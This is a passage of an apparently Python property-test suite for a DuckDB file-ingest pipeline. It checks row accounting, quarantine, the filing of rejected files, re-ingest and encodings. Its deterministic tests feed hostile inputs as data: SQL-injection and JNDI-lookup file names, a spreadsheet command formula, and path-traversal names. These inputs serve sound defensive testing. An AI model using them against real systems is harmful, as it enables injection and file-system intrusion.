            n for (n,) in conn.execute(f"select _row_number from {contract.table} where _file_id = ?", [result.file_id]).fetchall()
        }
        if loaded_numbers & set(numbers):
            failures.append(f"{gen.name!r}: rows both loaded and quarantined: {sorted(loaded_numbers & set(numbers))[:5]}")
        if any(not 1 <= n <= result.rows_received for n in loaded_numbers):
            failures.append(f"{gen.name!r}: loaded _row_number outside 1..{result.rows_received}")


def is_utf8(name: str) -> bool:
    """False for a file name whose bytes on disk are not UTF-8 (Python shows them as surrogate escapes)."""
    try:
        name.encode("utf-8")
        return True
    except UnicodeEncodeError:
        return False


def is_file(path: Path) -> bool:
    """Path.is_file, False for a name too long to exist."""
    try:
        return path.is_file()
    except OSError:
        return False


def decoded_texts(data: bytes) -> list[str]:
    texts = [data.decode("utf-8", errors="replace"), data.decode("latin-1")]
    try:  # the ingest reads a non-UTF-8 file as Windows-1252 when it can (0x9B is '›' there), else as Latin-1
        texts.append(data.decode("cp1252"))
    except UnicodeDecodeError:
        pass
    if data[:2] in (codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE):
        texts.append(data.decode("utf-16", errors="replace"))
    return texts


def check_file(conn, landing: Path, feed: str, path: Path, gen: GenFile, result: FileResult,
               before: dict[str, int], after: dict[str, int], loaded_ids: set[str], failures: list[str]) -> None:
    file_id = hashlib.sha256(gen.data).hexdigest()
    name = gen.name
    if result.file_id != file_id:
        failures.append(f"{name!r}: file_id {result.file_id} is not the SHA-256 of the content")
    if result.status == "skipped":
        if file_id not in loaded_ids:
            failures.append(f"{name!r}: skipped although that content was never loaded")
        if after != before:
            failures.append(f"{name!r}: a skipped file changed the warehouse: {before} -> {after}")
        if not path.exists():
            failures.append(f"{name!r}: a skipped file disappeared from landing")
        return
    if result.status not in ("loaded", "rejected"):
        failures.append(f"{name!r}: unknown status {result.status!r}")
        return
    counts = (result.rows_received, result.rows_loaded, result.rows_quarantined, result.rows_rejected, result.rows_duplicate)
    if min(counts) < 0 or result.rows_received != sum(counts[1:]):
        failures.append(f"{name!r}: result does not balance: {counts}")
    ledger = conn.execute(
        "select file_name, status, rows_received, rows_loaded, rows_quarantined, rows_rejected, rows_duplicate, feed, dataset "
        "from audit.ingest_ledger where file_id = ? order by ingested_at",
        [file_id],
    ).fetchall()
    if after["ledger"] != before["ledger"] + 1 or not ledger:
        failures.append(f"{name!r}: {after['ledger'] - before['ledger']} ledger rows written (expected exactly one)")
    else:
        row = ledger[-1]
        # a name that is not UTF-8 on disk is stored with its undecodable bytes as \xNN
        stored_name = name.encode("utf-8", errors="surrogateescape").decode("utf-8", errors="backslashreplace")
        if row[:7] != (stored_name, result.status, *counts) or result.file_name != stored_name:
            failures.append(f"{name!r}: ledger row {row} does not match the result {result}")
        if row[2] != sum(row[3:7]):
            failures.append(f"{name!r}: ledger row does not balance: {row}")
        if row[7] != feed:
            failures.append(f"{name!r}: ledger feed {row[7]!r}")
    contract = next((c for c in CONTRACTS if c.dataset == result.dataset), None)
    for c in CONTRACTS:
        grew = after[c.table] - before[c.table]
        expected = result.rows_loaded if contract is c else 0
        if grew != expected:
            failures.append(f"{name!r}: {c.table} grew by {grew}, rows_loaded={result.rows_loaded} ({result.dataset})")
    if after["quarantine"] - before["quarantine"] != result.rows_quarantined:
        failures.append(f"{name!r}: quarantine grew by {after['quarantine'] - before['quarantine']}, rows_quarantined={result.rows_quarantined}")
    if contract is not None and result.status == "loaded":
        in_raw = conn.execute(f"select count(*) from {contract.table} where _file_id = ?", [file_id]).fetchall()[0][0]
        if in_raw != result.rows_loaded:
            failures.append(f"{name!r}: {in_raw} raw rows carry the file id, rows_loaded={result.rows_loaded}")
        check_loaded_rows(conn, contract, gen, file_id, decoded_texts(gen.data), failures)
    check_quarantine(conn, contract, result, gen, failures)
    if result.status == "loaded":
        loaded_ids.add(file_id)
        if result.rows_rejected:
            failures.append(f"{name!r}: a loaded file has rows_rejected={result.rows_rejected}")
        if not path.exists():
            failures.append(f"{name!r}: a loaded file was moved")
    else:
        if result.rows_loaded or result.rows_quarantined or result.rows_duplicate or result.rows_rejected != result.rows_received:
            failures.append(f"{name!r}: a rejected file has row counts {counts}")
        if not result.message:
            failures.append(f"{name!r}: rejected without a message")
        if path.exists():
            failures.append(f"{name!r}: a rejected file is still in landing")
        # landing/rejected/<feed>/, outside the feed folders
        folders = [landing / "rejected" / feed]
        stem, suffix = Path(name).stem, Path(name).suffix
        # its own name; when taken, '<stem>.<8 hex of the sha><suffix>', or '<16 hex><suffix>' if that is too long
        names = (name, f"{stem}.{file_id[:8]}{suffix}", f"{file_id[:16]}{suffix[:16]}")
        targets = [folder / n for folder in folders for n in names]
        moved = next((t for t in targets if is_file(t) and t.read_bytes() == gen.data), None)
        if moved is None:
            failures.append(f"{name!r}: rejected file not found in {folders[0]}")
        else:
            # beside it, or under the file id when '<name>.reason.txt' would be too long a file name
            reasons = [moved.with_name(moved.name + ".reason.txt"), moved.with_name(f"{file_id[:16]}.reason.txt")]
            reason = next((r for r in reasons if is_file(r)), None)
            text = reason.read_bytes().decode("utf-8", errors="replace") if reason is not None else ""
            if "rejected because:" not in text or (is_utf8(name) and name not in text):
                failures.append(f"{name!r}: no .reason.txt for the rejected file")


@functools.cache
def empty_warehouse() -> bytes:
    """The bytes of a DuckDB file holding what ensure_schema creates and the canary table (3 rows).

    Made once per process: each example starts from its own copy of the file, which is what creating
    it, running ensure_schema and creating the canary did in every example (~20 ms and a checkpoint each).
    """
    with tempfile.TemporaryDirectory(prefix="crossdock-props-") as tmp:
        path = Path(tmp) / "w.duckdb"
        with duckdb.connect(str(path)) as conn:
            ensure_schema(conn)
            conn.execute("create table main.canary as select range as i from range(3)")
        return path.read_bytes()


def _run_landing(feed: str, files: list[GenFile], test_name: str, redeliver: bool) -> None:
    """Ingest a generated landing twice and assert every property; raise AssertionError with all failures."""
    STATS["examples"][test_name] += 1
    failures: list[str] = []
    template = empty_warehouse()  # before the system temp folder is pointed into the example's
    with tempfile.TemporaryDirectory(prefix="crossdock-props-") as tmp:
        top = Path(tmp)
        # landing sits three folders deep so that a write to ../ or ../../ from it is still caught here
        root = top / "a" / "b" / "c"
        landing = root / "landing"
        (landing / feed).mkdir(parents=True)
        warehouse = top / "warehouse"
        warehouse.mkdir()
        # the ingest's own temporary files (e.g. copies it reads odd files through) go here, to be checked
        scratch = top / "tmp"
        scratch.mkdir()
        tempfile.tempdir = str(scratch)  # run_landing restores it
        by_name = {}
        for gen in files:
            (landing / feed / gen.name).write_bytes(gen.data)
            by_name[gen.name] = gen
        (warehouse / "w.duckdb").write_bytes(template)  # ensure_schema's tables and the canary, as created
        with duckdb.connect(str(warehouse / "w.duckdb")) as conn:
            tables_before = table_set(conn)
            loaded_ids: set[str] = set()
            crashed: dict[str, str] = {}
            rejected_first: list[GenFile] = []

            # first pass: what ingest_feed does (ensure_schema + ingest_file per landing file, in order),
            # file by file so that a known crash does not hide the files after it
            ensure_schema(conn)
            for path in landing_files(landing, feed):
                gen = by_name[path.name]
                STATS["handmade" if test_name == "deterministic" else "files"][feed] += 1
                before = snapshot(conn)
                try:
                    result = ingest_file(conn, path, feed, SALT)
                except Exception as exc:
                    bug = known_crash(exc, path, feed)
                    if bug is None:
                        failures.append(f"{gen.name!r}: {type(exc).__name__} escaped ingest_file: {exc}")
                        continue
                    STATS["bug_hits"][bug] += 1
                    STATS["outcome"][f"crash:{bug}"] += 1
                    crashed[path.name] = bug
                    if bug in ("unreadable_file_aborts_transaction", "order_date_cast_crash", "invalid_utf16_crashes", "non_utf8_file_name"):
                        # before the commit: the failure must leave no trace but the exception
                        if snapshot(conn) != before or not path.exists():
                            failures.append(f"{gen.name!r}: a failed ingest left a trace")
                    continue
                STATS["outcome"][result.status] += 1
                check_file(conn, landing, feed, path, gen, result, before, snapshot(conn), loaded_ids, failures)
                if result.status == "rejected":
                    rejected_first.append(gen)

            # no SQL from the data ran: every table is still there, the canary untouched
            if table_set(conn) != tables_before:
                failures.append(f"tables changed: {table_set(conn) ^ tables_before}")
            first = snapshot(conn)
            if first["canary"] != 3:
                failures.append("the canary table changed")
            # nothing was written outside the landing folder and the warehouse
            for p in top.rglob("*"):
                inside = p.is_relative_to(landing) or p.is_relative_to(warehouse) or p in (top / "a", top / "a" / "b", root, scratch)
                if not inside:
                    failures.append(f"a file was written outside the landing folder: {p.relative_to(top)}")
            for p in landing.iterdir():
                if p not in (landing / feed, landing / "rejected"):
                    failures.append(f"unexpected entry in landing/: {p.name}")
            for p in (landing / feed).rglob("*"):
                rel = p.relative_to(landing / feed)
                if len(rel.parts) > 1:
                    failures.append(f"unexpected entry under landing/{feed}: {rel}")
            if (landing / "rejected").exists():
                for p in (landing / "rejected").rglob("*"):
                    if p.relative_to(landing / "rejected").parts[0] != feed:
                        failures.append(f"rejected file filed under another feed: {p}")

            # second pass: ingesting the same landing again changes nothing
            files_before = tree(landing)
            # A file that crashed after its commit because of a known bug stays in landing and is
            # ingested, and crashes, again; a file whose name is a glob pattern reads whatever matches it
            # now. Those are the only changes allowed, and only while their bugs are listed.
            relapses = 0
            glob_changed = False

            def second_outcome(path: Path, outcome: str) -> None:
                nonlocal glob_changed
                if any(ch in path.name for ch in GLOB_CHARS) and known("glob_characters_in_file_name"):
                    STATS["bug_hits"]["glob_characters_in_file_name"] += 1
                    glob_changed = True
                else:
                    failures.append(f"second run: {path.name!r} {outcome}")

            if not crashed:
                for r in ingest_feed(conn, landing, feed, SALT):
                    if r.status != "skipped":
                        second_outcome(landing / feed / r.file_name, f"ingested again: {r.status}")
            else:
                for path in landing_files(landing, feed):
                    try:
                        r = ingest_file(conn, path, feed, SALT)
                    except Exception as exc:
                        bug = known_crash(exc, path, feed)
                        if bug == "landing_file_named_rejected" and crashed.get(path.name) == bug:
                            relapses += 1
                        elif bug is None or bug != crashed.get(path.name):
                            second_outcome(path, f"raised {type(exc).__name__}: {exc}")
                        continue
                    if r.status != "skipped":
                        second_outcome(path, f"ingested again: {r.status}")
            if not glob_changed:
                if snapshot(conn) != {**first, "ledger": first["ledger"] + relapses}:
                    failures.append(f"second run changed the warehouse: {first} -> {snapshot(conn)}")
                if tree(landing) != files_before:
                    failures.append("second run changed the landing folder")

            # third pass (redeliver=True): every rejected file is sent again under the same name,
            # changed (a fix that still fails, or one that works): it is ingested like a new file and
            # the earlier rejected copy is kept
            for gen in rejected_first if redeliver else []:
                again = GenFile(gen.name, gen.data + b"\n", gen.provenance, feed, gen.local_days)
                path = landing / feed / gen.name
                path.write_bytes(again.data)
                STATS["files" if test_name != "deterministic" else "handmade"][feed] += 1
                before = snapshot(conn)
                try:
                    result = ingest_file(conn, path, feed, SALT)
                except Exception as exc:
                    bug = known_crash(exc, path, feed)
                    if bug is None:
                        failures.append(f"{gen.name!r} sent again: {type(exc).__name__} escaped ingest_file: {exc}")
                    else:
                        STATS["bug_hits"][bug] += 1
                    continue
                check_file(conn, landing, feed, path, again, result, before, snapshot(conn), loaded_ids, failures)
                kept = [p for p in (landing / "rejected" / feed).iterdir() if is_file(p) and p.read_bytes() == gen.data]
                if not kept:
                    failures.append(f"{gen.name!r} sent again: the first rejected copy is gone")

            if any(scratch.iterdir()):
                failures.append(f"temporary files left behind: {[p.name for p in scratch.iterdir()]}")
    assert not failures, "\n".join(failures[:20]) + "\nfiles: " + repr([(g.name, g.data[:300]) for g in files])


def run_landing(feed: str, files: list[GenFile], test_name: str, redeliver: bool = False) -> None:
    saved = tempfile.tempdir
    try:
        _run_landing(feed, files, test_name, redeliver)
    finally:
        tempfile.tempdir = saved


# Shrinking a failing landing costs minutes (each example is a fresh warehouse), so it is off unless
# CROSSDOCK_PROPS_SHRINK=1: a failure message lists the whole generated landing anyway.
PHASES = tuple(p for p in Phase if p is not Phase.shrink or os.environ.get("CROSSDOCK_PROPS_SHRINK") == "1")
# `make test-fast` sets CROSSDOCK_PROPS_EXAMPLES=0.25: the inner loop runs the first quarter of each
# property's examples (derandomized, so the same ones every time); `make test` runs them all.
EXAMPLES_SHARE = float(os.environ.get("CROSSDOCK_PROPS_EXAMPLES", "1"))


def examples(count: int) -> int:
    """`count` examples, or its share under CROSSDOCK_PROPS_EXAMPLES, never fewer than three."""
    return max(3, round(count * EXAMPLES_SHARE)) if EXAMPLES_SHARE < 1 else count


COMMON = dict(
    phases=PHASES,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example, HealthCheck.filter_too_much],
)


# --------------------------------------------------------------------------------------------
# The property tests
# --------------------------------------------------------------------------------------------
@settings(max_examples=examples(60), **COMMON)
@given(landings("orders", ("csv", "csv", "csv", "jsonl")))
def test_orders_landings_keep_every_invariant(files):
    run_landing("orders", files, "orders", redeliver=True)


@settings(max_examples=examples(30), **COMMON)
@given(landings("carriers", ("jsonl", "jsonl", "jsonl", "csv")))
def test_carrier_json_lines_landings_keep_every_invariant(files):
    run_landing("carriers", files, "carriers_jsonl")


@settings(max_examples=examples(30), **COMMON)
@given(st.sampled_from(["inventory", "suppliers"]).flatmap(lambda feed: landings(feed, ("csv", "jsonl", "parquet"))))
def test_inventory_and_supplier_landings_keep_every_invariant(files):
    run_landing(files[0].feed, files, "inventory_suppliers")


@settings(max_examples=examples(25), **COMMON)
@given(
    st.sampled_from(["orders", "carriers", "inventory", "suppliers"]),
    st.lists(
        st.tuples(
            st.sampled_from(["orders_x", "tracking_x", "inventory_x", "suppliers_x", "catalogue_x", "purchase_orders_x"]),
            st.sampled_from([".csv", ".jsonl", ".parquet", ".tsv", ".json"]),
            st.one_of(
                st.binary(max_size=400),
                st.sampled_from([b"", b"\n", b"\r\n", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, b"\x00" * 64, b"PAR1", b"PAR1\x00\x00PAR1", b"{}", b"[]", b'""',
                                 codecs.BOM_UTF16_LE + b"a", codecs.BOM_UTF16_BE + b"\xd8\x00\x00a", codecs.BOM_UTF16_LE + b"o\x00\n"]),
            ),
        ),
        min_size=1,
        max_size=3,
        unique_by=lambda t: t[0] + t[1],
    ),
)
def test_random_bytes_in_any_feed_are_rejected_or_accounted_for(feed, specs):
    files = [GenFile(name + suffix, data, frozenset(), feed) for name, suffix, data in specs]
    run_landing(feed, files, "random_bytes")


@settings(max_examples=examples(12), **COMMON)
@given(
    st.lists(
        st.tuples(st.integers(1, 500), st.integers(1, 3), st.integers(-5, 20).filter(bool), st.sampled_from(["web", "app", "marketplace"])),
        min_size=1,
        max_size=20,
        unique_by=lambda t: t[:2],
    ),
    st.data(),
)
def test_an_overlapping_export_skips_repeats_and_loads_changes_as_new_versions(lines, data):
    """A valid export, then a renamed one that repeats some lines, changes others and adds new ones.

    The re-export lists its columns in another order and ends its lines with CRLF, as another tool would.
    """
    columns = ["order_id", "line_id", "ordered_at", "channel", "customer_id", "sku", "quantity", "unit_price", "currency", "ship_to_country", "fulfilment_node"]

    def export(rows: list[tuple[int, int, int, str]], order: list[str], newline: str) -> str:
        out = [",".join(order)]
        for o, ln, q, c in rows:
            values = {"order_id": f"SO-{o}", "line_id": str(ln), "ordered_at": "2025-01-03T10:00:00+01:00", "channel": c,
                      "customer_id": f"C-{o}", "sku": f"SKU-{o % 7}", "quantity": str(q), "unit_price": "9.99",
                      "currency": "EUR", "ship_to_country": "DE", "fulfilment_node": "NL-AMS"}
            out.append(",".join(values[k] for k in order))
        return newline.join(out) + newline

    first = export(lines, columns, "\n")
    kept = data.draw(st.lists(st.sampled_from(lines), unique=True)) if lines else []
    changed = data.draw(st.lists(st.sampled_from(kept), unique=True)) if kept else []
    fresh = [(1000 + i, 1, 1, "web") for i in range(data.draw(st.integers(0, 5)))]
    second_rows = [(o, ln, q + 1 if q + 1 else 2, c) if (o, ln, q, c) in changed else (o, ln, q, c) for (o, ln, q, c) in kept] + fresh
    second = export(data.draw(st.permutations(second_rows)), data.draw(st.permutations(columns)), "\r\n")
    STATS["examples"]["overlap"] += 1
    with tempfile.TemporaryDirectory(prefix="crossdock-props-") as tmp:
        landing = Path(tmp) / "landing"
        (landing / "orders").mkdir(parents=True)
        (landing / "orders" / "orders_2025-01-03.csv").write_bytes(first.encode("utf-8"))
        with duckdb.connect(str(Path(tmp) / "w.duckdb")) as conn:
            STATS["files"]["orders"] += 1
            [day1] = ingest_feed(conn, landing, "orders", SALT)
            assert (day1.status, day1.rows_loaded, day1.rows_quarantined) == ("loaded", len(lines), 0), day1
            (landing / "orders" / "orders_2025-01-04 (re-export).csv").write_bytes(second.encode("utf-8"))
            STATS["files"]["orders"] += 1
            results = {r.file_name: r for r in ingest_feed(conn, landing, "orders", SALT)}
            day2 = results["orders_2025-01-04 (re-export).csv"]
            assert results["orders_2025-01-03.csv"].status == "skipped"
            assert day2.status == "loaded"
            assert (day2.rows_received, day2.rows_loaded, day2.rows_duplicate, day2.rows_quarantined) == (
                len(second_rows), len(changed) + len(fresh), len(kept) - len(changed), 0
            ), day2
            # the latest version of a row, as downstream reads it (a later export's date first, when recorded)
            columns = {r[0] for r in conn.execute("describe raw.orders").fetchall()}
            order = ("_file_date desc, " if "_file_date" in columns else "") + "_ingested_at desc, _row_number desc"
            latest = dict(
                ((o, ln), q)
                for o, ln, q in conn.execute(
                    "select order_id, line_id, quantity from (select *, row_number() over (partition by order_id, line_id "
                    f"order by {order}) as v from raw.orders) where v = 1"
                ).fetchall()
            )
            expected = {(f"SO-{o}", ln): q for o, ln, q, _ in lines}
            expected.update({(f"SO-{o}", ln): q for o, ln, q, _ in second_rows})
            assert latest == expected
            assert conn.execute("select count(*) from raw.orders").fetchall()[0][0] == len(lines) + len(changed) + len(fresh)
            # the same content again, under a third name, is skipped
            (landing / "orders" / "orders_2025-01-04 copy.csv").write_bytes(second.encode("utf-8"))
            STATS["files"]["orders"] += 1
            assert {r.file_name: r.status for r in ingest_feed(conn, landing, "orders", SALT)}["orders_2025-01-04 copy.csv"] == "skipped"


@settings(max_examples=examples(8), **COMMON)
@given(
    st.lists(st.tuples(st.integers(1, 300), st.integers(1, 3), st.integers(1, 9)), min_size=1, max_size=12, unique_by=lambda t: t[:2]),
    st.data(),
)
def test_a_late_older_export_does_not_override_a_newer_one(lines, data):
    """Exports arrive out of order: the one dated later wins, whichever was ingested first."""
    header = "order_id,line_id,ordered_at,channel,customer_id,sku,quantity,unit_price,currency,ship_to_country,fulfilment_node\n"

    def export(rows):
        return header + "".join(f"SO-{o},{ln},2025-01-03T10:00:00+01:00,web,C-{o},SKU-1,{q},9.99,EUR,DE,NL-AMS\n" for o, ln, q in rows)

    changed = set(data.draw(st.lists(st.sampled_from(lines), unique=True)))
    newer = [(o, ln, q + 1 if (o, ln, q) in changed else q) for o, ln, q in lines] + [(9999, 1, 1)]  # and a new order
    STATS["examples"]["out_of_order"] += 1
    with tempfile.TemporaryDirectory(prefix="crossdock-props-") as tmp:
        folder = Path(tmp) / "landing" / "orders"
        folder.mkdir(parents=True)
        with duckdb.connect(str(Path(tmp) / "w.duckdb")) as conn:
            ensure_schema(conn)
            (folder / "orders_2025-02-01.csv").write_text(export(newer), encoding="utf-8")  # the newer export first
            (folder / "orders_2025-01-01.csv").write_text(export(lines), encoding="utf-8")
            STATS["files"]["orders"] += 2
            first = ingest_file(conn, folder / "orders_2025-02-01.csv", "orders", SALT)
            late = ingest_file(conn, folder / "orders_2025-01-01.csv", "orders", SALT)
            assert (first.status, late.status) == ("loaded", "loaded")
            assert late.rows_received == late.rows_loaded + late.rows_duplicate
            latest = dict(
                ((o, ln), q)
                for o, ln, q in conn.execute(
                    "select order_id, line_id, quantity from (select *, row_number() over (partition by order_id, line_id "
                    "order by _file_date desc, _ingested_at desc, _row_number desc) as v from raw.orders) where v = 1"
                ).fetchall()
            )
            assert latest == {(f"SO-{o}", ln): q for o, ln, q in newer}


NAME_ALPHABET = "abcXYZ019-_.éüñçøÆßÖ€’“”–…日本🙂"
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-be-bom", "latin-1", "cp1252")


def encodable(text: str, encoding: str) -> bool:
    try:
        text.encode({"utf-16-be-bom": "utf-16-be", "utf-8-sig": "utf-8"}.get(encoding, encoding))
        return True
    except UnicodeEncodeError:
        return False


@settings(max_examples=examples(15), **COMMON)
@given(
    st.sampled_from(ENCODINGS),
    st.sampled_from([",", ";", "\t", "|"]),
    st.booleans(),
    st.lists(st.tuples(st.text(NAME_ALPHABET, min_size=1, max_size=10), st.text(NAME_ALPHABET, min_size=1, max_size=10)), min_size=1, max_size=8),
)
def test_valid_rows_in_any_supported_encoding_load_as_written(encoding, delimiter, quote_all, values):
    """Valid order lines, written in UTF-8 (with or without BOM), UTF-16 (either byte order, BOM),
    Latin-1 or Windows-1252 with any delimiter: every row loads and text comes back as written."""
    rows = [(f"SO-{i}", sku, customer) for i, (sku, customer) in enumerate(values) if encodable(sku + customer, encoding)]
    if not rows:
        return

    def field(v: str) -> str:
        return '"' + v.replace('"', '""') + '"' if quote_all or delimiter in v or '"' in v else v

    lines = [delimiter.join(HEADER.split(","))]
    for order_id, sku, customer in rows:
        cells = GOOD.split(",")
        cells[0], cells[4], cells[5] = order_id, customer, sku
        lines.append(delimiter.join(field(c) for c in cells))
    body = encode_text("\n".join(lines) + "\n", encoding)
    STATS["examples"]["encodings"] += 1
    STATS["files"]["orders"] += 1
    with tempfile.TemporaryDirectory(prefix="crossdock-props-") as tmp:
        folder = Path(tmp) / "landing" / "orders"
        folder.mkdir(parents=True)
        (folder / "orders_enc.csv").write_bytes(body)
        with duckdb.connect(str(Path(tmp) / "w.duckdb")) as conn:
            [result] = ingest_feed(conn, Path(tmp) / "landing", "orders", SALT)
            c1 = encoding == "cp1252" and any(0x80 <= b <= 0x9F for b in body)  # bytes Latin-1 has no character for
            if c1 and known("cp1252_rejected"):
                STATS["bug_hits"]["cp1252_rejected"] += 1
                return
            assert (result.status, result.rows_loaded) == ("loaded", len(rows)), result.message
            stored = set(conn.execute("select order_id, sku, customer_key from raw.orders").fetchall())
            # customer ids as their keyed pseudonym: HMAC-SHA256 under the salt
            expected = {(o, sku, hmac.new(SALT.encode(), customer.encode(), hashlib.sha256).hexdigest()) for o, sku, customer in rows}
            assert stored == expected


# --------------------------------------------------------------------------------------------
# Deterministic examples the generators may not reach often enough
# --------------------------------------------------------------------------------------------
HEADER = "order_id,line_id,ordered_at,channel,customer_id,sku,quantity,unit_price,currency,ship_to_country,fulfilment_node"
GOOD = "A1,1,2025-01-03T10:00:00Z,web,C-1,SKU-1,1,9.99,EUR,DE,NL-AMS"


def csv_quote(v: str) -> str:
    return '"' + v.replace('"', '""') + '"'


def test_injection_strings_in_every_header_and_value_are_data():
    """Every injection-looking string in every column, and as extra column names: no SQL runs."""
    columns = HEADER.split(",")
    extra = [s for s in INJECTIONS]
    lines = [",".join(columns + [csv_quote(e) for e in extra])]
    for value in INJECTIONS + ("a\x00b", "line\nbreak"):
        for i in range(len(columns)):
            cells = GOOD.split(",")
            cells[i] = value
            lines.append(",".join(csv_quote(c) for c in cells + [value] * len(extra)))
    data = ("\n".join(lines) + "\n").encode("utf-8")
    names = ["orders_'); drop table raw.orders; --.csv", 'orders_" or 1=1 --.csv', "orders_${jndi:ldap:__x}.csv", "orders_=cmd|'_c calc'!A1.csv"]
    run_landing("orders", [GenFile(n, data if i == 0 else data + b"\n" * i, frozenset(), "orders") for i, n in enumerate(names)], "deterministic")


@pytest.mark.parametrize(
    "name",
    ["orders with spaces.csv", "orders_ünïcødé_日本_🙂.csv", "orders_..", "orders_..\\..\\x.csv", "orders_\nnewline.csv",
     "orders_" + "x" * 240 + ".csv", "ORDERS_UPPER.CSV", "orders_x.csv.gz", "orders_x", "orders_-rf.csv",
     "orders_M\udcfcller.csv", "orders_*.csv", "orders_..\u2215..\u2215x.csv"],
)
def test_odd_file_names_load_or_are_rejected_in_place(name):
    good = GenFile(name, f"{HEADER}\n{GOOD}\n".encode(), frozenset({"A1"}), "orders")
    run_landing("orders", [good], "deterministic", redeliver=True)


def test_a_path_with_dot_dot_components_stays_inside_the_landing_folder():
    """ingest_file given `landing/orders/orders_../../orders_x.csv` (orders_.. being a folder) keeps everything in landing."""
    with tempfile.TemporaryDirectory(prefix="crossdock-props-") as tmp:
        top = Path(tmp)
        folder = top / "a" / "landing" / "orders"
        (folder / "orders_..").mkdir(parents=True)
        (folder / "orders_x.csv").write_text("order_id\n1\n", encoding="utf-8")  # rejected: missing columns
        (top / "wh").mkdir()
        with duckdb.connect(str(top / "wh" / "w.duckdb")) as conn:
            ensure_schema(conn)
            STATS["handmade"]["orders"] += 1
            result = ingest_file(conn, folder / "orders_.." / ".." / "orders_x.csv", "orders", SALT)
        assert result.status == "rejected"
        assert (folder.parent / "rejected" / "orders" / "orders_x.csv").is_file()
        assert (folder.parent / "rejected" / "orders" / "orders_x.csv.reason.txt").is_file()
        outside = [p for p in top.rglob("*") if not (p.is_relative_to(top / "a" / "landing") or p.is_relative_to(top / "wh")) and p != top / "a"]
        assert outside == []


@pytest.mark.parametrize(
    ("label", "data"),
    [
        ("empty", b""),
        ("header only", (HEADER + "\n").encode()),
        ("header only, no newline", HEADER.encode()),
        ("BOM only", codecs.BOM_UTF8),
        ("UTF-16 LE with BOM", (HEADER + "\n" + GOOD + "\n").encode("utf-16")),
        ("Latin-1", (HEADER + "\n" + GOOD.replace("C-1", "Zoë") + "\n").encode("latin-1")),
        ("shuffled, cased and padded header", (" SKU ,Quantity,ORDER_ID,line_id,Ordered_At,channel,unit_price,currency,ship_to_country,fulfilment_node\n"
                                               "SKU-1,1,A1,1,2025-01-03T10:00:00Z,web,9.99,EUR,DE,NL-AMS\n").encode()),
        ("newline inside a quoted value", (HEADER + "\n" + GOOD.replace("C-1", '"C\n1"') + "\n").encode()),
        ("huge numbers", (HEADER + "\n" + GOOD.replace(",1,9.99,", ",1e300,99999999999999999999,") + "\n").encode()),
        ("zero and negative quantities", (HEADER + "\n" + GOOD.replace(",1,9.99,", ",0,9.99,") + "\n"
                                          + GOOD.replace("A1", "A2").replace(",1,9.99,", ",-10001,9.99,") + "\n").encode()),
    ],
)
def test_classic_malformed_orders_files(label, data):
    run_landing("orders", [GenFile("orders_case.csv", data, frozenset({"A1", "A2"}), "orders")], "deterministic")


# --------------------------------------------------------------------------------------------
# The bugs, one minimal reproduction each (strict xfail while listed in KNOWN_BUGS)
# --------------------------------------------------------------------------------------------
def ingest_one(feed: str, name: str, data: bytes, extra: dict[str, bytes] | None = None):
    """Ingest a landing with `name` (and `extra` files) in a fresh warehouse; return (results, conn-free facts)."""
    tmp = tempfile.TemporaryDirectory(prefix="crossdock-props-")
    landing = Path(tmp.name) / "landing"
    (landing / feed).mkdir(parents=True)
    (landing / feed / name).write_bytes(data)
    for other, body in (extra or {}).items():
        (landing / feed / other).write_bytes(body)
    conn = duckdb.connect(str(Path(tmp.name) / "w.duckdb"))
    STATS["handmade"][feed] += 1 + len(extra or {})
    return tmp, landing, conn


@xfail_bug("unreadable_file_aborts_transaction")
def test_bug_a_file_that_fails_mid_read_is_rejected_not_raised():
    # 40 bytes of non-UTF-8 binary in a CSV: the sniffer accepts it, the read then fails inside the transaction
    tmp, landing, conn = ingest_one("orders", "orders_binary.csv", bytes(range(256)) * 3)
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert result.status == "rejected"


@xfail_bug("unreadable_file_aborts_transaction")
def test_bug_a_broken_json_line_is_rejected_not_raised():
    event = '{"event_id": "E1", "shipment_id": "S1", "carrier": "DHL", "service": "x", "origin_node": "N", "origin_country": "NL", "destination_country": "GB", "event_type": "delivered", "event_at": "2025-01-03T10:00:00Z"}'
    tmp, landing, conn = ingest_one("carriers", "tracking_1.jsonl", (event + "\n{broken\n").encode())
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "carriers", SALT)
        # since issue 14 the broken line is quarantined on its own and the good one loads
        assert (result.status, result.rows_loaded, result.rows_quarantined) == ("loaded", 1, 1)


@xfail_bug("order_date_cast_crash")
@pytest.mark.parametrize("ordered_at", ["2025-1-3 10:00:00Z", "99999-01-01T00:00:00Z", '"\t2025-01-03T10:00:00Z"'])
def test_bug_a_timestamp_whose_first_ten_characters_are_not_a_date_is_quarantined(ordered_at):
    tmp, landing, conn = ingest_one("orders", "orders_a.csv", f"{HEADER}\n{GOOD.replace('2025-01-03T10:00:00Z', ordered_at)}\n".encode())
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert (result.status, result.rows_loaded, result.rows_quarantined) == ("loaded", 0, 1)


@xfail_bug("integer_overflow_loaded_as_null")
def test_bug_an_integer_beyond_bigint_is_quarantined_not_loaded_as_null():
    tmp, landing, conn = ingest_one("orders", "orders_a.csv", f"{HEADER}\n{GOOD.replace(',1,2025', ',99999999999999999999,2025')}\n".encode())
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert conn.execute("select count(*) from raw.orders where line_id is null").fetchall() == [(0,)]
        assert (result.rows_loaded, result.rows_quarantined) == (0, 1)


@xfail_bug("key_text_variants_not_deduplicated")
def test_bug_the_same_key_written_twice_differently_is_a_duplicate_key():
    body = f"{HEADER}\n{GOOD}\n{GOOD.replace(',1,2025', ',01,2025').replace(',1,9.99', ',5,9.99')}\n"
    tmp, landing, conn = ingest_one("orders", "orders_a.csv", body.encode())
    with tmp, conn:
        [result] = ingest_feed(conn, landing, "orders", SALT)
        assert (result.rows_loaded, result.rows_quarantined) == (1, 1)
        assert conn.execute("select quantity from raw.orders").fetchall() == [(5,)]


@xfail_bug("glob_characters_in_file_name")
@pytest.mark.parametrize("name", ["orders_*.csv", "orders_?.csv", "orders_[x].csv"])
def test_bug_a_file_name_with_glob_characters_reads_only_that_file(name):
